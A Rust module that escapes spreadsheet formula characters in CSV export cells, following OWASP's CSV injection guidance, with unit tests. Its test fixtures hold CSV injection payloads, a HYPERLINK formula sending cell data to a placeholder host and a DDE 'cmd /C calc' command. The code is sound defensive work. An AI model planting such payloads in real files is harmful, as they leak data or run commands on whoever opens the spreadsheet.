//! Text cells of the CSV files people open in a spreadsheet: the task lists
//! of `policy run` and the events of `policy simulate --format csv`. A
//! cell that starts like a formula would run as one when the file is
//! opened in Excel, LibreOffice or Google Sheets (`=HYPERLINK(…)` in a
//! debtor's phone number sends a click to anyone's server), so such a cell
//! is neutralised as OWASP's CSV injection guidance says: prefixed with a
//! single quote, which spreadsheets read as "text". The rule is documented
//! in `docs/templates.md`.
//!
//! Only text goes through here. Amounts are numbers the program writes
//! (`-12.50` stays a number); a text cell that is a plain negative number
//! cannot run anything and is kept as it is.

use std::borrow::Cow;

/// Whether a spreadsheet would read a cell starting with `c` as a formula:
/// `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP).
fn starts_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// `-12`, `-12.50`: a number, not a formula.
fn is_negative_number(cell: &str) -> bool {
    let Some(digits) = cell.strip_prefix('-') else {
        return false;
    };
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// The cell as it is safe to write: prefixed with `'` when it starts like
/// a formula.
pub(crate) fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if starts_formula(c) && !is_negative_number(cell) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// [`neutralise`] on bytes (UTF-8 or not: the characters that start a
/// formula are ASCII, so the first byte tells). Cheap on the cells that
/// need nothing: one byte is looked at.
pub(crate) fn neutralise_bytes(cell: &[u8]) -> Cow<'_, [u8]> {
    match cell.first() {
        Some(&b)
            if starts_formula(char::from(b))
                && !std::str::from_utf8(cell).is_ok_and(is_negative_number) =>
        {
            let mut owned = Vec::with_capacity(cell.len() + 1);
            owned.push(b'\'');
            owned.extend_from_slice(cell);
            Cow::Owned(owned)
        }
        _ => Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_start_like_formulas_are_text() {
        for (cell, safe) in [
            (
                "=HYPERLINK(\"http://x\"&A1,\"click\")",
                "'=HYPERLINK(\"http://x\"&A1,\"click\")",
            ),
            ("+352 621 000 000", "'+352 621 000 000"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("-1e3", "'-1e3"),
            ("-12.", "'-12."),
        ] {
            assert_eq!(neutralise(cell), safe, "{cell:?}");
            assert_eq!(neutralise_bytes(cell.as_bytes()).as_ref(), safe.as_bytes());
        }
        for cell in [
            "ACME SA", "", "1 rue X", "a=b", "-12", "-12.50", "F-1", "'x",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
        assert_eq!(neutralise_bytes(b"=\xff").as_ref(), b"'=\xff");
    }
}
